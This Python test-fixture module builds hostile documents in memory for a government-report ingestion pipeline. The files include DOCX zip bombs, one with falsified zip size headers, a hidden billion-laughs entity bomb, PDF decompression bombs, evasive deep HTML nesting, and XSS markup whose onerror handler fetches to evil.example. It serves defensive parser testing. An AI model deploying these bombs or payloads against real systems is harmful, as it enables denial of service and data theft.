"""Hostile documents, built in memory by the tests (never downloaded).

Each builder returns bytes shaped like something a government website, a broken CMS or an
attacker could serve: archive and entity bombs inside DOCX, damaged and decompression-bomb
PDFs, pathological HTML (deep nesting, nesting that hides from a naive depth count, scripts and
event handlers), a 10 MB single line, mixed and mislabelled encodings, binary junk. The report
sentences are our own, written for these tests.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from xxgk.ingest.sim_site import make_docx, make_pdf

MIB = 1024 * 1024
GOOD_SENTENCE = "本年度本机关通过门户网站主动公开政府信息123条，收到政府信息公开申请4件。"
# A number that must never be extracted: it only appears inside scripts and handlers.
SCRIPT_ONLY_NUMBER = 98765
XSS_MARKUP = "<img src=x onerror=alert(1)><svg onload=alert(2)>"


def build_plain_docx() -> bytes:
    return make_docx(["示例县统计局2023年政府信息公开工作年度报告", GOOD_SENTENCE])


def _rewrite_docx(docx: bytes, replace: dict[str, bytes] | None = None,
                  add: dict[str, bytes] | None = None) -> bytes:
    """The same DOCX with some members replaced or added (deflated)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx)) as src, \
            zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = (replace or {}).get(info.filename, src.read(info.filename))
            dst.writestr(info.filename, data)
        for name, data in (add or {}).items():
            dst.writestr(name, data)
    return buf.getvalue()


def build_docx_zip_bomb(inflated_bytes: int = 300 * MIB) -> bytes:
    """A DOCX whose extra member inflates from a few hundred KB to ``inflated_bytes`` of zeros.

    The directory tells the truth about the size: the classic bomb.
    """
    buf = io.BytesIO(_rewrite_docx(build_plain_docx()))
    with zipfile.ZipFile(buf, "a", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("word/media/image1.bin", "w", force_zip64=False) as member:
            block = b"\0" * MIB
            for _ in range(inflated_bytes // MIB):
                member.write(block)
    return buf.getvalue()


def build_docx_lying_sizes(inflated_bytes: int = 200 * MIB, declared: int = 5000) -> bytes:
    """A DOCX whose document.xml inflates to ``inflated_bytes`` while the zip's local header
    and central directory both declare ``declared`` bytes: a bomb that passes a size check
    made from the directory alone."""
    plain = build_plain_docx()
    with zipfile.ZipFile(io.BytesIO(plain)) as src:
        document = src.read("word/document.xml")
    head, tail = document.split(b"<w:body>", 1)
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain)) as src, \
            zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != "word/document.xml":
                dst.writestr(info.filename, src.read(info.filename))
                continue
            target = zipfile.ZipInfo("word/document.xml")
            target.compress_type = zipfile.ZIP_DEFLATED
            with dst.open(target, "w") as member:
                member.write(head + b"<w:body>")
                block = b" " * MIB  # whitespace between elements: still well-formed XML
                for _ in range(inflated_bytes // MIB):
                    member.write(block)
                member.write(tail)
    return _patch_declared_size(buf.getvalue(), "word/document.xml", declared)


def _patch_declared_size(archive: bytes, name: str, size: int) -> bytes:
    data = bytearray(archive)
    wanted = name.encode()
    at = data.find(b"PK\x01\x02")
    patched = 0
    while at != -1:
        name_length = struct.unpack("<H", data[at + 28:at + 30])[0]
        if data[at + 46:at + 46 + name_length] == wanted:
            data[at + 24:at + 28] = struct.pack("<I", size)  # central directory
            local = struct.unpack("<I", data[at + 42:at + 46])[0]
            data[local + 22:local + 26] = struct.pack("<I", size)  # local file header
            patched += 1
        at = data.find(b"PK\x01\x02", at + 1)
    assert patched == 1, "member to patch not found"
    return bytes(data)


def _billion_laughs_doctype(levels: int = 10) -> bytes:
    entities = [b'<!ENTITY lol0 "lol">']
    for level in range(1, levels):
        entities.append(b'<!ENTITY lol%d "%s">' % (level, b"&lol%d;" % (level - 1) * 10))
    return b"<!DOCTYPE w:document [" + b"".join(entities) + b"]>"


def build_docx_billion_laughs(*, hide_after_bytes: int = 0) -> bytes:
    """A DOCX whose document.xml defines nested entities (10^9 "lol"s) and uses the last one.

    ``hide_after_bytes`` puts a comment of that size before the DOCTYPE (still well-formed
    XML), so a guard that looks only at the first few KB of the part does not see it.
    """
    plain = build_plain_docx()
    with zipfile.ZipFile(io.BytesIO(plain)) as src:
        document = src.read("word/document.xml")
    declaration, body = document.split(b"?>", 1)
    padding = b"<!--" + b"x" * hide_after_bytes + b"-->" if hide_after_bytes else b""
    body = body.replace("123".encode(), b"&lol9;", 1)
    hostile = declaration + b"?>" + padding + _billion_laughs_doctype() + body
    return _rewrite_docx(plain, replace={"word/document.xml": hostile})


def build_good_pdf() -> bytes:
    return make_pdf(["Annual report of a statistics bureau, 2023", "proactive disclosures 123",
                     "requests received 4"] * 4)


def build_pdf_broken_xref(pdf: bytes | None = None) -> bytes:
    """The xref table's offsets overwritten with nonsense, and startxref pointing nowhere."""
    pdf = pdf or build_good_pdf()
    at = pdf.rindex(b"\nxref\n") + 1
    table_end = pdf.index(b"trailer", at)
    garbage = b"xref\n0 8\n" + b"9999999999 65535 n \n" * 8
    broken = pdf[:at] + garbage + pdf[table_end:]
    return broken.replace(b"startxref\n", b"startxref\n1", 1)


def build_pdf_truncated(pdf: bytes | None = None) -> bytes:
    pdf = pdf or build_good_pdf()
    return pdf[: len(pdf) // 2]


def build_pdf_bomb(inflated_bytes: int = 200 * MIB) -> bytes:
    """A one-page PDF whose content stream is a short text line followed by
    ``inflated_bytes`` of spaces, deflated to a few hundred KB: a decompression bomb."""
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(b"BT /F1 12 Tf 72 700 Td (proactive disclosures 123) Tj ET\n")]
    block = b" " * MIB
    for _ in range(inflated_bytes // MIB):
        parts.append(compressor.compress(block))
    parts.append(compressor.flush())
    stream = b"".join(parts)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream
        + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref)
    return bytes(out)


def build_deep_html(levels: int = 100_000) -> bytes:
    """``levels`` nested <div>s with a report sentence at the bottom."""
    return (b"<html><head><title>\xe6\xb7\xb1</title></head><body>" + b"<div>" * levels
            + GOOD_SENTENCE.encode() + b"</div>" * levels + b"</body></html>")


def build_hidden_deep_html(levels: int = 100_000) -> str:
    """Nesting a tag counter does not see, though an HTML parser builds it: ``<div/>`` (the
    slash means nothing on a non-void element) and ``<div></x>`` (an end tag that closes
    nothing is ignored). Both leave ``levels`` open <div>s."""
    half = levels // 2
    return "<html><body>" + "<div/>" * half + "<div></x>" * half + GOOD_SENTENCE + "</body></html>"


def build_single_line(size: int = 10_000_000) -> bytes:
    """One line of ``size`` bytes: report sentences without a single line break."""
    unit = GOOD_SENTENCE.encode("utf-8")
    return (unit * (size // len(unit) + 1))[:size - size % 3]  # whole UTF-8 characters


def build_mixed_encodings() -> bytes:
    """An HTML page claiming UTF-8 whose body mixes UTF-8, GBK and Latin-1 byte runs."""
    return (b'<html><head><meta charset="utf-8"><title>' + "年度报告".encode("utf-8")
            + b"</title></head><body><p>" + GOOD_SENTENCE.encode("utf-8") + b"</p><p>"
            + "收到政府信息公开申请4件，均已按时答复。".encode("gbk") + b"</p><p>"
            + "Caf\u00e9 na\u00efve".encode("latin-1") + b"</p></body></html>")


def build_utf8_page_with_gbk_footer() -> bytes:
    """A UTF-8 report page with a footer in GBK bytes, as when a site's template and its
    content come from systems with different encodings."""
    return build_script_html().replace(b"</body>", b"<p>" + "联系电话和地址".encode("gbk")
                                       + b"</p></body>")


def build_wrongly_declared_gbk() -> bytes:
    """GBK bytes; the server will call them UTF-8 (tests serve this with that header)."""
    return ("<html><head><title>示例县统计局2023年政府信息公开工作年度报告</title></head><body>"
            f"<h1>示例县统计局2023年政府信息公开工作年度报告</h1><p>{GOOD_SENTENCE}</p>"
            "</body></html>").encode("gbk")


def build_script_html() -> bytes:
    """A report page carrying scripts, event handlers, javascript: links and hidden spam,
    each holding a number sentence that a reader never sees."""
    fake = f"全年主动公开政府信息{SCRIPT_ONLY_NUMBER}条"
    return (
        "<html><head><title>示例县统计局2023年政府信息公开工作年度报告</title>"
        f"<script>document.write('{fake}');</script>"
        f"<style>body:after{{content:'{fake}'}}</style></head>"
        f"<body onload=\"alert('{fake}')\">"
        "<h1>示例县统计局2023年政府信息公开工作年度报告</h1>"
        f"<p onclick=\"steal('{fake}')\">{GOOD_SENTENCE}</p>"
        f"<a href=\"javascript:alert('{fake}')\">打印</a>"
        f"<img src=x onerror=\"fetch('//evil.example/?{fake}')\">"
        f"<div style=\"display:none\">{fake}</div>"
        f"<noscript>{fake}</noscript>"
        f"<script type=\"text/template\"><p>{fake}</p></script>"
        f"<svg><script>{fake}</script></svg>"
        "</body></html>").encode("utf-8")


def build_binary_junk(size: int = 64 * 1024, seed: int = 7) -> bytes:
    """Deterministic noise over all 256 byte values (served as text/html)."""
    import random

    return random.Random(seed).randbytes(size)
